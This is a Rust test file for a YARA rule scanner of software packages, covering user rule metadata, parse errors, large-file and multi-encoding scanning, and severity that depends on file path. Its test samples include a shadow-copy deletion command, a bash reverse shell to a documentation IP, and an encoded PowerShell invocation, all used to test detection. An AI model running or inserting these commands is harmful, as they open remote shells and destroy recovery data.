//! The bundled rules on their samples, the operator's rules, and what both have in
//! common.

mod gate;
mod samples;

use packguard_sdk::testing::PackageBuilder;
use packguard_sdk::{Analyzer as _, Category, Confidence, Severity};

use crate::{Rules, bundled};

fn user(text: &str) -> Result<packguard_sdk::Analysis, String> {
    let package = PackageBuilder::new("pypi", "demo")
        .setting("rules.yara.mine.yar", text)
        .file("a/setup.py", "import os\nprint('needle')\n")
        .build();
    Rules::analyze(&package)
}

#[test]
fn a_users_rule_carries_its_metadata() {
    let analysis = user(
        r#"rule Some_Needle { meta: description = "A needle" severity = "HIGH" confidence = "high"
           category = "command-and-control" mitre = "T1105" strings: $a = "needle" condition: $a }"#,
    )
    .unwrap();
    let finding = &analysis.findings()[0];
    assert_eq!(finding.rule, "yara-user");
    assert_eq!(finding.title, "YARA rule Some_Needle: A needle");
    assert_eq!(finding.why, "A needle (ATT&CK T1105)");
    assert_eq!(finding.severity, Severity::High);
    assert_eq!(finding.confidence, Confidence::High);
    assert_eq!(finding.category, Category::CommandAndControl);
    let location = finding.location.as_ref().unwrap();
    assert_eq!((location.line, location.column), (Some(2), Some(8)));
    assert_eq!(location.snippet.as_deref(), Some("print('needle')"));
}

#[test]
fn a_users_rule_needs_no_metadata() {
    for (meta, severity) in [
        ("", Severity::Medium),
        ("meta: severity = \"whatever\"", Severity::Medium),
        ("meta: score = 75", Severity::High),
        ("meta: score = 100", Severity::Critical),
    ] {
        let rule = format!("rule x {{ {meta} strings: $a = \"needle\" condition: $a }}");
        let analysis = user(&rule).unwrap();
        assert_eq!(analysis.findings()[0].severity, severity, "{meta}");
        assert_eq!(analysis.findings()[0].title, "YARA rule x matches");
    }
}

#[test]
fn users_rules_may_ask_for_file_and_format() {
    let rule = r#"import "hash" import "pe" import "math"
        rule x { condition: filename == "setup.py" and extension == "py" and filepath contains "a/"
        and text and not pe.is_pe and math.entropy(0, filesize) > 1.0 and hash.md5(0, 1) != "" }"#;
    assert_eq!(user(rule).unwrap().findings().len(), 1);
}

#[test]
fn a_mistake_names_file_and_line() {
    for (text, place) in [
        ("rule x {\n  condition:\n    $a\n}", "mine.yar:3:5: error"),
        ("rule x {", "mine.yar:1:"),
        ("include \"/etc/passwd\"", "mine.yar:1:1"),
    ] {
        let error = user(text).unwrap_err();
        assert!(error.starts_with(place), "{error}");
    }
}

#[test]
fn files_of_rules_do_not_reach_into_each_other() {
    let rule = "rule x { strings: $a = \"needle\" condition: $a }";
    let package = PackageBuilder::new("pypi", "demo")
        .setting("rules.yara", rule)
        .setting("rules.yara.b", rule)
        .setting("rules.yara.c", "global rule g { condition: false }")
        .setting("rules.yaraother", "nonsense")
        .file("a.py", "needle")
        .build();
    assert_eq!(Rules::analyze(&package).unwrap().findings().len(), 2);
}

#[test]
fn a_users_rule_is_reported_a_bounded_number_of_times() {
    let mut package = PackageBuilder::new("pypi", "demo").setting(
        "rules.yara",
        "rule x { condition: true } rule y { condition: true }",
    );
    for index in 0..40 {
        package = package.file(&format!("{index}.py"), "x");
    }
    assert_eq!(
        Rules::analyze(&package.build()).unwrap().findings().len(),
        50
    );
}

#[test]
fn a_large_file_is_scanned_to_its_end() {
    let mut content = vec![b'a'; (32 << 20) + 1_000];
    // Across the border of two pieces.
    let needle = b"\nvssadmin delete shadows /all\n";
    content[(32 << 20) - 9..][..needle.len()].copy_from_slice(needle);
    let package = PackageBuilder::new("pypi", "demo")
        .file("a.py", content)
        .build();
    let analysis = Rules::analyze(&package).unwrap();
    let rules: Vec<_> = analysis
        .findings()
        .iter()
        .map(|finding| &finding.rule)
        .collect();
    assert_eq!(rules, ["yara-recovery-destroyed"]);
    assert!(analysis.problems().is_empty());
}

#[test]
fn lines_are_counted_in_any_encoding() {
    let line = "os.system('vssadmin delete shadows /all')";
    for (name, content) in [
        ("utf-8", format!("# é\n  {line}\n").into_bytes()),
        ("mark", format!("\u{feff}# é\n  {line}\n").into_bytes()),
        ("latin-1", [b"# \xE9\xE9\n  ", line.as_bytes()].concat()),
    ] {
        let package = PackageBuilder::new("pypi", "demo")
            .file("a.py", content)
            .build();
        let analysis = Rules::analyze(&package).unwrap();
        let location = analysis.findings()[0].location.clone().unwrap();
        assert_eq!(
            (location.line, location.column),
            (Some(2), Some(14)),
            "{name}"
        );
        assert_eq!(location.snippet.as_deref(), Some(line), "{name}");
    }
}

#[test]
fn a_file_that_is_gone_is_a_problem() {
    let package = PackageBuilder::new("pypi", "demo")
        .file("a.py", "x")
        .build();
    let mut gone = package.0.clone();
    gone.files[0].location = "/nowhere".into();
    let analysis = Rules::analyze(&packguard_sdk::Package(gone)).unwrap();
    assert_eq!(analysis.problems().len(), 1);
}

#[test]
fn bundled_rules_compile_together_and_keep_their_names_in_order() {
    let all = (0..bundled::all().count()).collect();
    let scanner = bundled::compile(&all).unwrap();
    assert_eq!(scanner.rules().count(), all.len());
    assert!(bundled::all().is_sorted_by_key(|bundled| bundled.name));
}

#[test]
fn a_match_in_code_counts_less_than_one_in_a_script() {
    let text = "x = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\n";
    for (path, severity) in [
        ("demo/run.sh", Severity::High),
        ("demo/cases.json", Severity::High),
        ("demo/shell.py", Severity::Medium),
        ("demo/tests/shell.py", Severity::Low),
        ("demo/tests/cases.json", Severity::Low),
        ("demo/shell.md", Severity::Info),
    ] {
        let package = PackageBuilder::new("generic", "demo")
            .file(path, text)
            .build();
        let analysis = Rules::analyze(&package).unwrap();
        assert_eq!(analysis.findings()[0].severity, severity, "{path}");
    }
}

#[test]
fn many_long_matches_need_little_memory() {
    let line = format!("powershell -nop -enc SQBFAFgA{}\n", "IAAo".repeat(700));
    let package = PackageBuilder::new("generic", "demo")
        .file("demo/run.ps1", line.repeat(2_000))
        .build();
    let analysis = Rules::analyze(&package).unwrap();
    assert_eq!(
        analysis.findings()[0].rule,
        "yara-powershell-encoded-command"
    );
}
